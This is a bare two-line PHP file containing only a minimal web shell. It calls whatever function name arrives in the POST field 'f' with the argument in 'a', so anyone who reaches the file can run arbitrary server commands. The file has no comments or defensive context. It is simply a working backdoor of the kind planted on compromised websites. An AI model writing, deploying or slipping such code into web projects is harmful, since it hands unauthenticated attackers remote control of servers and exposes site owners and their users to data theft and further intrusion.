<?php
call_user_func($_POST['f'], $_POST['a']);
